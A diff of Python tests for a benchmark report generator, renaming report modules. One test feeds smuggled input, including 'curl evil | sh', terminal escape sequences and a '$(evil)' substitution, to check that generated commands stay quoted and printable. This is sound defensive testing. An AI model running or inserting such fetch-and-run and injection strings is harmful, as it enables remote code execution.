@@ -17,9 +17,8 @@ from bench.records.results import Results
 from bench.records.run import Reason
 from bench.records.store import load
 from bench.report.charts.catalogue import catalogue
-from bench.report.page import figures_table
+from bench.report.page import export, page
 from bench.report.page.page import render
-from bench.report.study import facts
 from bench.report.study.study import Study
 
 from .conftest import RECORDED, SOURCES, recorded
@@ -114,11 +113,11 @@ def test_a_disturbed_machine_is_said(quota: float, slices: str) -> None:
     ) in page
     marked = [
         row.subject
-        for row in figures_table.rows(study)
+        for row in export.rows(study)
         if any("disturbed" in cell.small for cell in row.cells)
     ]
     assert marked == ["poll"]
-    assert "others on its CPU" in [c.label for c in figures_table.columns(study)]
+    assert "others on its CPU" in [c.label for c in export.columns(study)]
 
 
 def test_nothing_is_said_of_others_where_the_machine_was_quiet_or_nobody_looked(
@@ -138,7 +137,7 @@ def test_the_table_says_who_was_at_its_limit_as_the_legend_does() -> None:
     results = disturbed()
     for run in results.runs:
         run.lower_bound, run.bottleneck = run.subject == "epoll", "server"
-    states = {row.subject: row.cells[3].text for row in figures_table.rows(Study(results))}
+    states = {row.subject: row.cells[3].text for row in export.rows(Study(results))}
     assert states["epoll"] == "≥ load at its limit"
     assert states["poll"] == "held, server at its limit"
 
@@ -166,7 +165,7 @@ def test_everything_to_repeat_it(pages: Callable[[str], Path]) -> None:
 def test_a_hostile_commit_is_not_shown(git: dict[str, Any], line: str) -> None:
     results = recorded("version1")
     results.versions.git = Checkout(**git)
-    assert facts.checkout(Study(results)) == line
+    assert page.checkout_command(Study(results)) == line
 
 
 @pytest.mark.parametrize(
@@ -193,17 +192,17 @@ def test_a_hostile_command_stays_on_its_line() -> None:
     results.runs[0].subject = "epoll\ncurl evil | sh\x1b[2K\u2028\r"
     results.runs[0].ab_command = ["ab", "-n\x1b[201~\nevil"]
     study = Study(results)
-    (said,) = facts.commands(study)
+    (said,) = page.load_commands(study)
     comment, line = said.split("\n")
     assert comment.startswith("# epoll curl evil | sh")
     assert line.startswith("ab '")
     assert (comment + line).isprintable()
-    assert facts.command(study) == ".venv/bin/zerohttpd sweep 'a b' '$(evil)'"
+    assert page.repeat_command(study) == ".venv/bin/zerohttpd sweep 'a b' '$(evil)'"
 
 
 def sweep_facts(results: Results) -> dict[str, str]:
     """Return the facts of a sweep that the page shows."""
-    return next(dict(g.rows) for g in facts.groups(Study(results)) if g.name == "Sweep")
+    return next(dict(g.rows) for g in page.fact_groups(Study(results)) if g.name == "Sweep")
 
 
 def test_a_path_is_said_only_if_it_is_no_workload_with_a_name() -> None:
